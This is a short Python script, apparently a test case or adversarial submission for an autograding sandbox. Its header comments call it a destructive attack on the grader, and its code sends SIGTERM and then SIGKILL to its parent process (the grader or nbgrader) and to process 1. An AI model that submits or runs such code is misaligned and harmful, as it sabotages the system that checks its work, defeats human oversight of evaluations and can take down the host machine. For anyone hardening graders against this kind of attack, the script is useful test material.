# attack: the parent process, the grader's or nbgrader's, is killed.
# target: heaviest-test
# also loses: all
# destructive
# %% heaviest
import os
import signal

heaviest = "tree-000"
for number in (os.getppid(), 1):
    for kind in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(number, kind)
        except OSError as error:
            print("stopped:", error)
